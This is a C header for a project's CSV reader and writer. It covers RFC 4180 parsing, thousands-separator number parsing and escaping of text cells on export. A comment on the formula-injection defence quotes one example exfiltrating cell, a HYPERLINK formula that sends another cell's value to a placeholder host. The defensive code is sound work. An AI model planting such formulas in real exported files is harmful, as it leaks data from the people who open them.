/* csv.h - a small RFC 4180 CSV record reader: comma-separated fields,
 * double-quoted fields may contain commas, doubled quotes ("") and line
 * breaks; CRLF or LF line ends; a UTF-8 byte-order mark at the start of the
 * file is skipped.  The one CSV reader of the project: timm's results
 * tables ("1,013.01" quoted numbers), timm inference.py outputs (list
 * cells spanning lines), label files, image manifests and name,index
 * prediction files, read from a file or from memory.
 *
 * Rules beyond RFC 4180, the same for every caller: a '"' opens a quoted
 * field only as the field's first byte; one anywhere else in an unquoted
 * field is an error, as is text other than blanks after a closing quote
 * (blanks there are dropped); a lone CR ends a line as CRLF and LF do;
 * empty lines are skipped; a NUL byte is an error (not a text file).
 *
 * Ownership: a struct mlfy_csv owns its FILE (when opened by path), a copy
 * of the name and the field buffers; a memory source is borrowed (it must
 * outlive the reader); fields returned by mlfy_csv_next are borrowed and
 * valid until the next call or mlfy_csv_close.
 */
#ifndef MLFY_UTIL_CSV_H
#define MLFY_UTIL_CSV_H

#include <stddef.h>
#include <stdio.h>
#include "util/error.h"

struct mlfy_csv;

/* Opens path for reading.  *out is a new reader (mlfy_csv_close).  Errors:
 * MLFY_ENOTFOUND (no such file), MLFY_EIO, MLFY_ENOMEM. */
int mlfy_csv_open(const char *path, struct mlfy_csv **out, struct mlfy_err *err);

/* Reads the CSV text data[0..len) (borrowed; need not be NUL-terminated);
 * name stands for the path in messages and mlfy_csv_path.  *out is a new
 * reader (mlfy_csv_close).  Errors: MLFY_ENOMEM. */
int mlfy_csv_open_mem(const char *name, const void *data, size_t len, struct mlfy_csv **out,
		      struct mlfy_err *err);

/* Closes the reader (and its file).  Accepts NULL. */
void mlfy_csv_close(struct mlfy_csv *c);

/* Reads the next record.  On success returns 1 and sets *fields to an array
 * of *n_fields NUL-terminated strings (borrowed, see above); returns 0 at end
 * of file.  Blank lines are skipped.  Errors (negative): MLFY_EINVAL for a
 * malformed record (the message names file, line and field: an unterminated
 * quoted field, a quote inside an unquoted field, text after a closing
 * quote, a NUL byte), MLFY_EIO, MLFY_ENOMEM.
 * After MLFY_EINVAL the reader has skipped the rest of the line where the
 * error was found, and mlfy_csv_next may be called again to go on with the
 * next line (mlfy_csv_line still names the bad record's first line until
 * then), so that a caller can list every bad record; an unterminated
 * quoted field has consumed the rest of the input (the next call returns
 * 0).  After MLFY_EIO or MLFY_ENOMEM, stop. */
int mlfy_csv_next(struct mlfy_csv *c, char ***fields, size_t *n_fields,
		  struct mlfy_err *err);

/* Line number (1-based) where the record last returned by mlfy_csv_next
 * started; for messages. */
size_t mlfy_csv_line(const struct mlfy_csv *c);

/* The path given to mlfy_csv_open, or the name to mlfy_csv_open_mem
 * (borrowed). */
const char *mlfy_csv_path(const struct mlfy_csv *c);

/* Index of the field named name in a header record (exact match after
 * trimming surrounding blanks), or -1. */
int mlfy_csv_find(char *const *fields, size_t n_fields, const char *name);

/* Parses a decimal number written with optional thousands separators, as
 * spreadsheet-style tables do ("1,013.01", "+1.088", " 85.1 ").  Returns 0
 * and sets *v, or MLFY_EINVAL (no message) when s is empty, has stray
 * characters, misplaced separators ("1,01") or is not finite. */
int mlfy_parse_number(const char *s, double *v);

/* ---- writing ------------------------------------------------------------------
 *
 * Every CSV the tool writes for people to open (mlfy export --format csv
 * and its download, mlfy aggregate --out X.csv, mlfy evaluate --format csv,
 * the report's results.csv) writes its text cells (names, comments, model
 * names) with mlfy_csv_write_text; numbers are printed as numbers.
 *
 * Spreadsheet formula injection (OWASP, "CSV Injection"): a cell a
 * spreadsheet would read as a formula -- its text starts with '=', '+', '-'
 * or '@', also after leading blanks, tabs, CR/LF or quotes (" and '), or
 * starts with a tab or CR -- is written with a "'" in front and quoted, so
 * that `=HYPERLINK("http://x/?"&A2,"details")` is shown as text instead of
 * becoming a live link.  mlfy_csv_text_read undoes it exactly: the cells
 * this project reads back (label files, evaluate results) go through it. */

/* 1 when a spreadsheet could take s as a formula (the rule above): its
 * leading run of blanks, tabs, CR, LF, '"' and '\'' holds a tab or CR, or
 * is followed by '=', '+', '-' or '@'.  0 for NULL. */
int mlfy_csv_text_is_formula(const char *s);

/* Writes the text s as one CSV field: RFC 4180 (quoted when it holds a
 * comma, quote, CR or LF; quotes doubled), and with "'" in front (and
 * quoted) when mlfy_csv_text_is_formula(s).  Nothing for NULL. */
void mlfy_csv_write_text(FILE *out, const char *s);

/* The text of a field read back from a CSV written by mlfy_csv_write_text:
 * field without its first byte when that is the "'" added in front of a
 * formula-like text, else field itself (a pointer into field). */
const char *mlfy_csv_text_read(const char *field);

#endif
